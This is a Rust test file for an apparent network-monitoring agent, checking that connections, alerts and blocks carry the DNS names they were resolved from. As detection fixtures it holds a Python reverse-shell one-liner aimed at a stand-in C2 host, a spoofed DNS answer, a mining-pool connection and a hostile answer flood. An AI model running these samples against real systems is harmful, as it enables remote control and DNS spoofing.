//! End-to-end: connections carry the name they were resolved from. A real resolver (Debian's
//! `dnsmasq`, started by the test inside the test network namespace) serves a test zone; real
//! processes resolve names through glibc (`getaddrinfo`, with a `resolv.conf` and
//! `nsswitch.conf` of the test's own bind-mounted in a private mount namespace: the machine's
//! files are never touched) and connect. The agent's connect events and geo alerts must carry
//! the name, also when the answer comes from a local caching stub on loopback (as
//! systemd-resolved's 127.0.0.53), and per process: two processes that resolved different
//! names to one address each see their own; a TCP answer cut into several segments (a small
//! MTU and no segmentation offload on the test's own veth) names every address it carries, and
//! so do answers back to back on one TCP connection, also in the middle of a segment.
//! A socket is known by what it asked (an unconnected one by its `sendto`), not by its port:
//! a socket reopened on the port of one that asked is named only once it asks itself.
//! DNS over TLS or HTTPS yields no name (the answer
//! is encrypted), which a test of its own shows against a plain answer from the same server.

mod common;

use std::{
    io::{BufRead, BufReader, Write as _},
    path::Path,
    process::{Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use common::{
    Agent,
    dns::{
        CONNECT_ALL, client, connect_now, dnsmasq, dnsmasq_serving, require_dnsmasq,
        resolver_files, resolver_files_with,
    },
    netns::{CN4, DE4, FR6, KP6, RU4, TestNet},
    nft::Table,
    procs::Procs,
};
use serde_json::Value;

fn connect_of(agent: &Agent, pid: u32, daddr: &str) -> Value {
    agent.wait_for("connect", &format!("from pid {pid} to {daddr}"), |e| {
        e["pid"] == pid && e["daddr"] == daddr
    })
}

fn geo_alert_of(agent: &Agent, pid: u32) -> Value {
    agent.wait_for("alert", &format!("geo for pid {pid}"), |a| {
        a["anomaly"] == "geo" && a["pid"] == pid
    })
}

#[test]
fn a_resolved_name_reaches_the_connect_event_and_the_geo_alert() {
    if !common::require_root("a_resolved_name_reaches_the_connect_event_and_the_geo_alert") {
        return;
    }
    require_dnsmasq("a_resolved_name_reaches_the_connect_event_and_the_geo_alert");
    let _serial = common::serial();
    let net = TestNet::new("dns");
    let mut procs = Procs::default();
    dnsmasq(&net, DE4, None, &mut procs);
    dnsmasq(&net, FR6, None, &mut procs);
    let agent = Agent::start("");
    let dir = tempfile::tempdir().unwrap();
    let files = resolver_files(dir.path(), "direct", DE4);

    // Through a CNAME: the name asked is the one shown.
    let (pid, mut stdin, mut stdout) = client(
        &net,
        false,
        &files,
        "www.sentinel.test",
        CONNECT_ALL,
        &mut procs,
    );
    connect_now(&mut stdin, &mut stdout);
    let ev = connect_of(&agent, pid, RU4);
    assert_eq!(ev["domain"], "www.sentinel.test", "{ev}");
    let alert = geo_alert_of(&agent, pid);
    let detail = alert["detail"].as_str().unwrap();
    assert!(
        detail.contains(&format!("www.sentinel.test ({RU4})")),
        "{detail}"
    );
    assert_eq!(alert["domain"], "www.sentinel.test", "{alert}");
    // Its pending decision carries the name too (the event and `sentinel pending`).
    let id = alert["id"].as_str().unwrap().to_string();
    let decision = agent.wait_for("decision", &format!("pending {id}"), |d| {
        d["id"] == id.as_str() && d["state"] == "pending"
    });
    assert_eq!(decision["domain"], "www.sentinel.test", "{decision}");
    let pending = agent.json_lines(&["pending", "--json"]);
    assert!(
        pending.iter().any(|p| p["id"] == id.as_str()
            && p["domain"] == "www.sentinel.test"
            && p["names"][RU4] == "www.sentinel.test"),
        "{pending:?}"
    );
    let table = String::from_utf8_lossy(&agent.cli(&["pending"]).stdout).into_owned();
    assert!(
        table
            .lines()
            .any(|l| l.starts_with(&id) && l.contains(&format!("www.sentinel.test ({RU4})"))),
        "{table}"
    );

    // An AAAA answer names an IPv6 connect.
    let (pid6, mut stdin, mut stdout) = client(
        &net,
        false,
        &files,
        "v6.sentinel.test",
        CONNECT_ALL,
        &mut procs,
    );
    connect_now(&mut stdin, &mut stdout);
    let ev = connect_of(&agent, pid6, KP6);
    assert_eq!(ev["domain"], "v6.sentinel.test", "{ev}");
    // Its decision (the same origin's, which it joins) names this target by its own name.
    let deadline = Instant::now() + Duration::from_secs(10);
    while !agent
        .json_lines(&["pending", "--json"])
        .iter()
        .any(|p| p["names"][KP6] == "v6.sentinel.test")
    {
        assert!(
            Instant::now() < deadline,
            "{KP6} never named in a decision: {:?}",
            agent.json_lines(&["pending", "--json"])
        );
        thread::sleep(Duration::from_millis(200));
    }

    // Over TCP (`options use-vc`), as a resolver falls back to for a long answer.
    let tcp = resolver_files_with(dir.path(), "tcp", DE4, "use-vc");
    let (pid_tcp, mut stdin, mut stdout) = client(
        &net,
        false,
        &tcp,
        "other.sentinel.test",
        CONNECT_ALL,
        &mut procs,
    );
    connect_now(&mut stdin, &mut stdout);
    let ev = connect_of(&agent, pid_tcp, RU4);
    assert_eq!(ev["domain"], "other.sentinel.test", "{ev}");

    // An answer that comes over IPv6.
    let v6 = resolver_files(dir.path(), "v6", FR6);
    let (pid_v6, mut stdin, mut stdout) = client(
        &net,
        false,
        &v6,
        "alias.sentinel.test",
        CONNECT_ALL,
        &mut procs,
    );
    connect_now(&mut stdin, &mut stdout);
    let ev = connect_of(&agent, pid_v6, RU4);
    assert_eq!(ev["domain"], "alias.sentinel.test", "{ev}");

    // A connect to an address nobody resolved has no name.
    common::netns::knock(FR6, 443);
    let own = std::process::id();
    let ev = connect_of(&agent, own, FR6);
    assert!(ev["domain"].is_null(), "{ev}");
}

/// What a client does to reach many addresses at once: a non-blocking connect to each (its
/// connect event comes at SYN_SENT, whether or not anyone answers), then `connected`.
const CONNECT_EACH_NOW: &str = "for fam, typ, proto, _, addr in infos:\n\
    \x20   s = socket.socket(fam, typ, proto); s.setblocking(False)\n\
    \x20   s.connect_ex(addr)\n\
    \x20   s.close()\n\
    print('connected', flush=True)\n";

#[test]
fn an_answer_over_512_bytes_names_every_address() {
    if !common::require_root("an_answer_over_512_bytes_names_every_address") {
        return;
    }
    require_dnsmasq("an_answer_over_512_bytes_names_every_address");
    let _serial = common::serial();
    let net = TestNet::new("dnsbig");
    let mut procs = Procs::default();
    // Two names with 40 addresses each (inside the test network's 198.51.100.0/25, never its
    // host side .1): an answer of about 690 bytes, past the classic 512.
    let udp: Vec<String> = (3..43).map(|i| format!("198.51.100.{i}")).collect();
    let tcp: Vec<String> = (43..83).map(|i| format!("198.51.100.{i}")).collect();
    let zone: Vec<(&str, &str)> = udp
        .iter()
        .map(|a| ("big.sentinel.test", a.as_str()))
        .chain(tcp.iter().map(|a| ("bigtcp.sentinel.test", a.as_str())))
        .collect();
    dnsmasq_serving(&net, DE4, None, &zone, &mut procs);
    let agent = Agent::start("");
    let dir = tempfile::tempdir().unwrap();

    // With EDNS (glibc's `edns0`: a 1200-byte buffer) the whole answer comes over UDP; without
    // it the server cuts the UDP answer (TC, 29 addresses) and glibc asks again over TCP.
    for (tag, options, name, addrs) in [
        ("edns", "edns0", "big.sentinel.test", &udp),
        ("tc", "", "bigtcp.sentinel.test", &tcp),
    ] {
        let files = resolver_files_with(dir.path(), tag, DE4, options);
        let (pid, mut stdin, mut stdout) =
            client(&net, false, &files, name, CONNECT_EACH_NOW, &mut procs);
        connect_now(&mut stdin, &mut stdout);
        for addr in addrs {
            let ev = connect_of(&agent, pid, addr);
            assert_eq!(ev["domain"], name, "{tag}: {ev}");
        }
    }
}

/// Counts the TCP segments from `argv[2]` port 53 that carry data, as they arrive on the
/// test's own veth `argv[1]` (a packet socket sees what the receiving socket will be handed,
/// one skb at a time): prints `ready`, then, once a line comes on stdin, their payload sizes.
const SEGMENT_COUNTER: &str = r#"
import select, socket, struct, sys
dev, server = sys.argv[1], socket.inet_aton(sys.argv[2])
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
s.bind((dev, 0x0800))
print("ready", flush=True)
sizes = []
def take(p):
    ihl = (p[0] & 15) * 4
    if p[9] == 6 and p[12:16] == server and struct.unpack("!H", p[ihl:ihl + 2])[0] == 53:
        n = len(p) - ihl - (p[ihl + 12] >> 4) * 4
        if n > 0:
            sizes.append(n)
while True:
    ready, _, _ = select.select([s, sys.stdin], [], [])
    if sys.stdin in ready:
        break
    take(s.recv(65536))
# What the tap queued before the client had its answer and the test said stop.
s.setblocking(False)
while True:
    try:
        take(s.recv(65536))
    except BlockingIOError:
        break
print(" ".join(map(str, sizes)), flush=True)
"#;

/// The test host's end of the veth (the only link in its namespace besides `lo`).
fn peer_of(net: &TestNet) -> String {
    let out = Command::new("ip")
        .args(["netns", "exec", net.ns(), "ip", "-o", "link", "show"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    text.lines()
        .filter_map(|l| l.split(": ").nth(1))
        .map(|n| n.split('@').next().unwrap_or(n).to_string())
        .find(|n| n.starts_with("snp"))
        .unwrap_or_else(|| panic!("no veth peer in {}: {text}", net.ns()))
}

fn run_ip(args: &[&str]) {
    let out = Command::new("ip").args(args).output().unwrap();
    assert!(out.status.success(), "ip {args:?}: {out:?}");
}

#[test]
fn a_tcp_answer_in_several_segments_names_every_address() {
    if !common::require_root("a_tcp_answer_in_several_segments_names_every_address") {
        return;
    }
    require_dnsmasq("a_tcp_answer_in_several_segments_names_every_address");
    let _serial = common::serial();
    let net = TestNet::new("dnsseg");
    let mut procs = Procs::default();
    // A name with 60 addresses (inside the test network's 198.51.100.0/25, never its host side
    // .1): an A answer of 1000 bytes.
    let addrs: Vec<String> = (3..63).map(|i| format!("198.51.100.{i}")).collect();
    let name = "segments.sentinel.test";
    let zone: Vec<(&str, &str)> = addrs.iter().map(|a| (name, a.as_str())).collect();
    dnsmasq_serving(&net, DE4, None, &zone, &mut procs);
    // As on a real network: segments of at most 360 bytes (an MTU of 400 on both ends of the
    // test's own veth) and one segment per packet from the resolver's side (gso_max_segs 1: no
    // TSO/GSO super-packet that the receiving socket would be handed whole).
    const MTU: usize = 400;
    let peer = peer_of(&net);
    run_ip(&["link", "set", net.veth(), "mtu", &MTU.to_string()]);
    run_ip(&[
        "netns",
        "exec",
        net.ns(),
        "ip",
        "link",
        "set",
        &peer,
        "mtu",
        &MTU.to_string(),
        "gso_max_segs",
        "1",
    ]);
    let agent = Agent::start("");
    let counter = procs.spawn(
        Command::new("/usr/bin/python3")
            .args(["-c", SEGMENT_COUNTER, net.veth(), DE4])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped()),
    );
    let mut counter_in = counter.stdin.take().unwrap();
    let mut counter_out = BufReader::new(counter.stdout.take().unwrap());
    let mut line = String::new();
    counter_out.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), "ready");

    // Over TCP (`use-vc`), without EDNS: the answer comes in one TCP message.
    let dir = tempfile::tempdir().unwrap();
    let files = resolver_files_with(dir.path(), "tcp", DE4, "use-vc");
    let (pid, mut stdin, mut stdout) =
        client(&net, false, &files, name, CONNECT_EACH_NOW, &mut procs);
    counter_in.write_all(b"stop\n").unwrap();
    line.clear();
    counter_out.read_line(&mut line).unwrap();
    let sizes: Vec<usize> = line
        .split_whitespace()
        .map(|n| n.parse().unwrap())
        .collect();
    // Not vacuous: the answer (1002 bytes with its length prefix) reached the client's socket
    // in at least three packets, none larger than a segment.
    assert!(
        sizes.len() >= 3 && sizes.iter().sum::<usize>() >= 1002,
        "the answer was not cut into segments: {sizes:?}"
    );
    assert!(
        sizes.iter().all(|&n| n <= MTU - 40),
        "a packet larger than a segment: {sizes:?}"
    );
    connect_now(&mut stdin, &mut stdout);
    assert_every_address_named(&agent, pid, &addrs, name, &format!("segments {sizes:?}"));
}

/// Process `pid`'s connect to each of `addrs` carries `name` (`context` says how the answer
/// came, for the failure message).
fn assert_every_address_named(
    agent: &Agent,
    pid: u32,
    addrs: &[String],
    name: &str,
    context: &str,
) {
    let unnamed: Vec<&String> = addrs
        .iter()
        .filter(|addr| connect_of(agent, pid, addr)["domain"] != name)
        .collect();
    assert!(
        unnamed.is_empty(),
        "{name}: {} of {} addresses have no name ({context}): {unnamed:?}\nagent log:\n{}",
        unnamed.len(),
        addrs.len(),
        agent.log()
    );
}

/// A resolver over TCP only, for [`pipelined_tcp_answers_are_all_named`]: answers `A` and
/// `AAAA` questions from the zone given as `name=address` arguments (several per name), every
/// answer to the queries one read brought in one write — glibc sends its A and AAAA queries
/// together, so both answers go back to back in one write, as a server's coalesced by Nagle
/// do. Except for names starting `split`: each answer's length prefix then goes in a write
/// (and segment) of its own, as some servers send it. Prints `ready` once it listens on
/// port 53.
const PIPELINING_RESOLVER: &str = r#"
import socket, struct, sys, time
listen = sys.argv[1]
zone = {}
for a in sys.argv[2:]:
    name, addr = a.split("=")
    zone.setdefault(name, []).append(addr)

def answer(q):
    i, labels = 12, []
    while q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode()); i += 1 + q[i]
    qtype = struct.unpack("!H", q[i + 1:i + 3])[0]
    v6 = qtype == 28
    addrs = [a for a in zone.get(".".join(labels).lower(), []) if (":" in a) == v6]
    fam, size = (socket.AF_INET6, 16) if v6 else (socket.AF_INET, 4)
    rrs = b"".join(struct.pack("!HHHIH", 0xC00C, qtype, 1, 60, size) + socket.inet_pton(fam, a) for a in addrs)
    m = q[:2] + struct.pack("!HHHHH", 0x8180, 1, len(addrs), 0, 0) + q[12:i + 5] + rrs
    return struct.pack("!H", len(m)) + m, labels[0].startswith("split")

srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind((listen, 53))
srv.listen(8)
print("ready", flush=True)
while True:
    c, _ = srv.accept()
    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    buf = b""
    while True:
        data = c.recv(4096)
        if not data:
            break
        buf += data
        out = b""
        while len(buf) >= 2 and len(buf) >= 2 + struct.unpack("!H", buf[:2])[0]:
            n = struct.unpack("!H", buf[:2])[0]
            a, split = answer(buf[2:2 + n]); buf = buf[2 + n:]
            if split:
                c.sendall(a[:2]); time.sleep(0.05); c.sendall(a[2:]); time.sleep(0.05)
            else:
                out += a
        if out:
            c.sendall(out)
    c.close()
"#;

#[test]
fn pipelined_tcp_answers_are_all_named() {
    if !common::require_root("pipelined_tcp_answers_are_all_named") {
        return;
    }
    let _serial = common::serial();
    let net = TestNet::new("dnspipe");
    let mut procs = Procs::default();
    // Two names over TCP, each with IPv4 and IPv6 addresses: `small` fits both answers in one
    // segment; `big` (60 A records) spans several, and its AAAA answer starts in the middle
    // of the last one, behind the A answer's tail.
    let small = "pipe.sentinel.test";
    let big = "pipebig.sentinel.test";
    // And one with no IPv4 address: its empty A answer (not copied) comes first, the AAAA
    // answer behind it in the same segment.
    let v6_only = "pipesix.sentinel.test";
    // And one whose answers come with their length prefixes in segments of their own.
    let split = "split.sentinel.test";
    let mut zone = vec![
        format!("{small}={RU4}"),
        format!("{small}={KP6}"),
        format!("{big}={FR6}"),
        format!("{v6_only}={KP6}"),
        format!("{split}={RU4}"),
        format!("{split}={KP6}"),
    ];
    let big_v4: Vec<String> = (3..63).map(|i| format!("198.51.100.{i}")).collect();
    zone.extend(big_v4.iter().map(|a| format!("{big}={a}")));
    let resolver = procs.spawn(
        Command::new("ip")
            .args(["netns", "exec", net.ns(), "/usr/bin/python3", "-c"])
            .arg(PIPELINING_RESOLVER)
            .arg(DE4)
            .args(&zone)
            .stdout(Stdio::piped()),
    );
    let mut line = String::new();
    BufReader::new(resolver.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line.trim(), "ready");
    // Segments of at most 360 bytes from the resolver: a 400-byte MTU on this side's route to
    // it (the MSS the client announces; a link MTU that small would take IPv6 off the veth)
    // and one segment per packet on its side (gso_max_segs 1: no TSO/GSO super-packet).
    run_ip(&[
        "route",
        "replace",
        "198.51.100.128/26",
        "dev",
        net.veth(),
        "src",
        "198.51.100.129",
        "mtu",
        "lock",
        "400",
    ]);
    let peer = peer_of(&net);
    run_ip(&[
        "netns",
        "exec",
        net.ns(),
        "ip",
        "link",
        "set",
        &peer,
        "gso_max_segs",
        "1",
    ]);
    let agent = Agent::start("");
    let dir = tempfile::tempdir().unwrap();
    let files = resolver_files_with(dir.path(), "tcp", DE4, "use-vc");
    for (name, v4, v6) in [
        (small, vec![RU4.to_string()], KP6),
        (big, big_v4.clone(), FR6),
        (v6_only, vec![], KP6),
        (split, vec![RU4.to_string()], KP6),
    ] {
        let addrs: Vec<String> = v4.iter().cloned().chain([v6.to_string()]).collect();
        let counter = procs.spawn(
            Command::new("/usr/bin/python3")
                .args(["-c", SEGMENT_COUNTER, net.veth(), DE4])
                .stdin(Stdio::piped())
                .stdout(Stdio::piped()),
        );
        let mut counter_in = counter.stdin.take().unwrap();
        let mut counter_out = BufReader::new(counter.stdout.take().unwrap());
        line.clear();
        counter_out.read_line(&mut line).unwrap();
        assert_eq!(line.trim(), "ready");
        let (pid, mut stdin, mut stdout) =
            client(&net, false, &files, name, CONNECT_EACH_NOW, &mut procs);
        counter_in.write_all(b"stop\n").unwrap();
        line.clear();
        counter_out.read_line(&mut line).unwrap();
        let sizes: Vec<usize> = line
            .split_whitespace()
            .map(|n| n.parse().unwrap())
            .collect();
        // Not vacuous: where the second answer started. The A answer is the first: 2 + 12 +
        // the question (the name's labels, 2 bytes, type and class) + 16 bytes a record.
        let question = name.len() + 2 + 4;
        let a_len = 2 + 12 + question + 16 * v4.len();
        let aaaa_len = 2 + 12 + question + 28;
        // glibc may ask more than once (each time the same two answers on a new connection).
        let exchange = a_len + aaaa_len;
        let mut ends = sizes.iter().scan(0, |sum, n| {
            *sum += n;
            Some(*sum)
        });
        let total = sizes.iter().sum::<usize>();
        if name == split {
            assert!(
                total > 0
                    && total % exchange == 0
                    && sizes.iter().filter(|&&n| n == 2).count() >= 2,
                "{name}: the length prefixes did not come alone: {sizes:?}"
            );
        } else {
            assert!(
                total > 0 && total % exchange == 0 && !ends.any(|end| end % exchange == a_len),
                "{name}: the second answer did not start mid-segment ({a_len} + {aaaa_len} bytes): {sizes:?}"
            );
        }
        connect_now(&mut stdin, &mut stdout);
        assert_every_address_named(&agent, pid, &addrs, name, &format!("segments {sizes:?}"));
    }
}

#[test]
fn a_local_stub_still_names_the_right_process() {
    if !common::require_root("a_local_stub_still_names_the_right_process") {
        return;
    }
    require_dnsmasq("a_local_stub_still_names_the_right_process");
    let _serial = common::serial();
    let net = TestNet::new("dnsstub");
    let mut procs = Procs::default();
    dnsmasq(&net, DE4, None, &mut procs);
    // The stub, as systemd-resolved's: on loopback in the clients' view, forwarding upstream.
    dnsmasq(&net, "127.0.0.53", Some(DE4), &mut procs);
    let agent = Agent::start("");
    let dir = tempfile::tempdir().unwrap();
    let stub = resolver_files(dir.path(), "stub", "127.0.0.53");

    // Two processes resolve two names to one address, one after the other; each connect
    // carries the name its own process asked for, not the host's latest.
    let (first, mut first_in, mut first_out) = client(
        &net,
        true,
        &stub,
        "c2.sentinel.test",
        CONNECT_ALL,
        &mut procs,
    );
    let (second, mut second_in, mut second_out) = client(
        &net,
        true,
        &stub,
        "other.sentinel.test",
        CONNECT_ALL,
        &mut procs,
    );
    connect_now(&mut first_in, &mut first_out);
    connect_now(&mut second_in, &mut second_out);
    let ev = connect_of(&agent, first, RU4);
    assert_eq!(ev["domain"], "c2.sentinel.test", "{ev}");
    let ev = connect_of(&agent, second, RU4);
    assert_eq!(ev["domain"], "other.sentinel.test", "{ev}");
    let alert = geo_alert_of(&agent, first);
    assert!(
        alert["detail"]
            .as_str()
            .unwrap()
            .contains(&format!("c2.sentinel.test ({RU4})")),
        "{alert}"
    );
    let status = agent.status();
    assert_eq!(status["sensors"]["dns"]["attached"], true, "{status}");

    // Intelligence counts names: a third process resolving a name an earlier alert had
    // scores 10 more than the second, whose name was new (both run an executable seen before).
    let second_alert = geo_alert_of(&agent, second);
    let (third, mut third_in, mut third_out) = client(
        &net,
        true,
        &stub,
        "c2.sentinel.test",
        CONNECT_ALL,
        &mut procs,
    );
    connect_now(&mut third_in, &mut third_out);
    let third_alert = geo_alert_of(&agent, third);
    assert_eq!(
        third_alert["risk"].as_u64().unwrap(),
        second_alert["risk"].as_u64().unwrap() + 10,
        "{second_alert}\n{third_alert}"
    );
}

/// A client for [`a_socket_is_known_by_what_it_asked_not_by_its_port`], run on the test host
/// against the resolver at `argv[1]`: an unconnected socket asks (`sendto`, no `connect`) for
/// `c2.sentinel.test` and is closed; a new socket on the same port, which has not asked, is
/// sent a forged answer from port 53 (`forged.sentinel.test` → `argv[2]`, from a loopback
/// socket of the script's own); then that socket asks for `xmr.pool.sentinel.test`. It
/// connects to each address (port 443: the test hosts reset) and says `connected`.
const REOPENED_CLIENT: &str = r#"
import socket, struct, sys
server, forged_addr = sys.argv[1:3]
def query(i, name):
    q = struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0)
    return q + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"
def ask(s, i, name):
    s.sendto(query(i, name), (server, 53))
    while True:
        a, peer = s.recvfrom(512)
        if peer[1] == 53 and a[:2] == struct.pack("!H", i):
            return socket.inet_ntoa(a[-4:])
first = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); first.settimeout(5)
first.bind(("0.0.0.0", 0)); port = first.getsockname()[1]
named = ask(first, 1, "c2.sentinel.test")
first.close()
second = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); second.settimeout(5)
second.bind(("0.0.0.0", port))
forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); forger.bind(("127.53.0.1", 53))
forged = query(7, "forged.sentinel.test")
forged = forged[:2] + b"\x81\x80\0\1\0\1" + forged[8:]
forged += struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(forged_addr)
forger.sendto(forged, ("127.0.0.1", port))
assert second.recvfrom(512)[0] == forged
later = ask(second, 2, "xmr.pool.sentinel.test")
print("resolved", named, later, flush=True)
for addr in (named, forged_addr, later):
    s = socket.socket(); s.settimeout(2)
    try: s.connect((addr, 443))
    except OSError: pass
    s.close()
print("connected", flush=True)
"#;

/// The asker is remembered on the socket itself: an unconnected socket that asked with
/// `sendto` is named; a socket opened later on the same port is not named by an answer it
/// did not ask for (the closed socket's record went with it), and is once it asks.
#[test]
fn a_socket_is_known_by_what_it_asked_not_by_its_port() {
    if !common::require_root("a_socket_is_known_by_what_it_asked_not_by_its_port") {
        return;
    }
    require_dnsmasq("a_socket_is_known_by_what_it_asked_not_by_its_port");
    let _serial = common::serial();
    let net = TestNet::new("dnsreo");
    let mut procs = Procs::default();
    dnsmasq(&net, DE4, None, &mut procs);
    let agent = Agent::start("");
    let child = procs.spawn(
        Command::new("/usr/bin/python3")
            .args(["-c", REOPENED_CLIENT, DE4, CN4])
            .stdout(Stdio::piped()),
    );
    let pid = child.id();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    out.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), format!("resolved {RU4} {DE4}"));
    line.clear();
    out.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), "connected");
    let ev = connect_of(&agent, pid, RU4);
    assert_eq!(ev["domain"], "c2.sentinel.test", "{ev}");
    let ev = connect_of(&agent, pid, DE4);
    assert_eq!(ev["domain"], "xmr.pool.sentinel.test", "{ev}");
    // The forged answer came before this connect: had it been taken, the connect would carry
    // its name.
    let ev = connect_of(&agent, pid, CN4);
    assert!(ev["domain"].is_null(), "{ev}");
}

#[test]
fn a_reverse_shell_alert_names_its_peer() {
    if !common::require_root("a_reverse_shell_alert_names_its_peer") {
        return;
    }
    require_dnsmasq("a_reverse_shell_alert_names_its_peer");
    let _serial = common::serial();
    let net = TestNet::new("dnsrs");
    let mut procs = Procs::default();
    dnsmasq(&net, DE4, None, &mut procs);
    common::procs::hold_connections(&net, 4444, &mut procs);
    let agent = Agent::start("");
    let dir = tempfile::tempdir().unwrap();
    let files = resolver_files(dir.path(), "direct", DE4);
    // The classic python one-liner, to a C2 found by name.
    let shell = "s = socket.create_connection((infos[0][4][0], 4444), timeout=5)\n\
                 os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n\
                 time.sleep(5)\n";
    let (pid, mut stdin, _stdout) =
        client(&net, false, &files, "c2.sentinel.test", shell, &mut procs);
    stdin.write_all(b"go\n").unwrap();
    let alert = agent.wait_for("alert", &format!("reverse_shell for pid {pid}"), |a| {
        a["anomaly"] == "reverse_shell" && a["pid"] == pid
    });
    let detail = alert["detail"].as_str().unwrap();
    assert!(
        detail.contains(&format!("c2.sentinel.test ({RU4}) port 4444")),
        "{detail}"
    );
}

#[test]
fn a_blocked_name_takes_its_new_address_into_the_block() {
    if !common::require_root("a_blocked_name_takes_its_new_address_into_the_block") {
        return;
    }
    require_dnsmasq("a_blocked_name_takes_its_new_address_into_the_block");
    let _serial = common::serial();
    const ROTATED: &str = "198.51.100.3";
    const NAME: &str = "rotate.sentinel.test";
    let net = TestNet::try_new("dnsblk", &[&format!("{ROTATED}/32")]).unwrap();
    let mut procs = Procs::default();
    // The C2's name before and after it moves: two resolvers, one answer each.
    dnsmasq_serving(&net, DE4, None, &[(NAME, RU4)], &mut procs);
    dnsmasq_serving(&net, CN4, None, &[(NAME, ROTATED)], &mut procs);
    let table = Table::new("dnsblk");
    let agent = Agent::start_with(
        "",
        &format!(
            "[switch]\ncountdown = \"1s\"\n[enforce]\ntable = \"{}\"\n\
             connect_guard = false\nblock_ttl = \"120s\"\n",
            table.0
        ),
    );
    let dir = tempfile::tempdir().unwrap();
    let before = resolver_files(dir.path(), "before", DE4);
    let after = resolver_files(dir.path(), "after", CN4);

    let (pid, mut stdin, mut stdout) = client(&net, false, &before, NAME, CONNECT_ALL, &mut procs);
    connect_now(&mut stdin, &mut stdout);
    let decision = agent.wait_for("decision", &format!("auto-block of pid {pid}"), |d| {
        d["pid"] == pid && d["state"] == "auto-blocked" && d["target_ip"] == RU4
    });
    let id = decision["id"].as_str().unwrap().to_string();
    assert_eq!(decision["domain"], NAME, "{decision}");
    assert!(
        !table.elements("block4").iter().any(|e| e.0 == ROTATED),
        "the new address is blocked before anyone resolved it"
    );

    // The same origin (this test's tree) resolves the name again and gets the new address:
    // it joins the block, without any connection to it.
    let (_pid, _stdin, _stdout) = client(&net, false, &after, NAME, CONNECT_ALL, &mut procs);
    let deadline = Instant::now() + Duration::from_secs(15);
    while !table.elements("block4").iter().any(|e| e.0 == ROTATED) {
        assert!(
            Instant::now() < deadline,
            "{ROTATED} never joined the block: {:?}\nagent log:\n{}",
            table.elements("block4"),
            agent.log()
        );
        thread::sleep(Duration::from_millis(100));
    }
    // Both blocks are listed under the name they were blocked under: the decision's own
    // target and the address that followed it.
    let blocks = agent.json_lines(&["blocks", "--json"]);
    for addr in [RU4, ROTATED] {
        assert!(
            blocks.iter().any(|b| b["addr"] == addr
                && b["decision_id"] == id.as_str()
                && b["domain"] == NAME),
            "{addr} not blocked under {NAME}: {blocks:?}"
        );
    }
    let table = String::from_utf8_lossy(&agent.cli(&["blocks"]).stdout).into_owned();
    let row = table.lines().find(|l| l.starts_with(ROTATED)).unwrap_or("");
    assert!(row.contains(NAME), "{table}");
}

#[test]
fn a_connection_to_a_pool_by_name_is_a_miner_alert() {
    if !common::require_root("a_connection_to_a_pool_by_name_is_a_miner_alert") {
        return;
    }
    require_dnsmasq("a_connection_to_a_pool_by_name_is_a_miner_alert");
    let _serial = common::serial();
    let net = TestNet::new("dnspool");
    let mut procs = Procs::default();
    dnsmasq(&net, DE4, None, &mut procs);
    let agent = Agent::start_with("", "[miner]\npool_domains = [\"*.pool.sentinel.test\"]\n");
    let dir = tempfile::tempdir().unwrap();
    let files = resolver_files(dir.path(), "direct", DE4);
    // An ordinary program on an ordinary port (443), in a low-risk country: only the name
    // says it is mining.
    let (pid, mut stdin, mut stdout) = client(
        &net,
        false,
        &files,
        "xmr.pool.sentinel.test",
        CONNECT_ALL,
        &mut procs,
    );
    connect_now(&mut stdin, &mut stdout);
    let alert = agent.wait_for("alert", &format!("miner for pid {pid}"), |a| {
        a["anomaly"] == "miner" && a["pid"] == pid
    });
    let detail = alert["detail"].as_str().unwrap();
    assert!(
        detail.contains(
            "connects to mining pool xmr.pool.sentinel.test (pool.sentinel.test) port 443"
        ),
        "{detail}"
    );
    assert_eq!(alert["target_ip"], DE4, "{alert}");
    // A name outside the pools is no miner.
    let (other, mut stdin, mut stdout) = client(
        &net,
        false,
        &files,
        "www.sentinel.test",
        CONNECT_ALL,
        &mut procs,
    );
    connect_now(&mut stdin, &mut stdout);
    connect_of(&agent, other, RU4);
    thread::sleep(Duration::from_millis(500));
    assert!(
        !agent
            .events("alert")
            .iter()
            .any(|a| a["anomaly"] == "miner" && a["pid"] == other),
        "a miner alert for a name outside the pools"
    );
}

/// The agent's resident memory, in KiB.
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap()
}

#[test]
fn a_flood_of_answers_neither_grows_memory_nor_stalls_the_agent() {
    if !common::require_root("a_flood_of_answers_neither_grows_memory_nor_stalls_the_agent") {
        return;
    }
    require_dnsmasq("a_flood_of_answers_neither_grows_memory_nor_stalls_the_agent");
    let _serial = common::serial();
    const FLOOD: u32 = 100_000;
    let net = TestNet::new("dnsfl");
    let mut procs = Procs::default();
    dnsmasq(&net, CN4, None, &mut procs);
    let agent = Agent::start("");
    thread::sleep(Duration::from_secs(1));
    let before = agent.status();
    let rss_before = rss_kib(agent.pid());
    // A hostile "resolver": one query brings back a flood of answers, each naming another
    // address of the test network 2001:db8:1::/64 with another (long, hostile) name, to a
    // socket that asked port 53.
    let flooder = format!(
        "import socket, struct\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         s.bind(('{DE4}', 53)); print('ready', flush=True)\n\
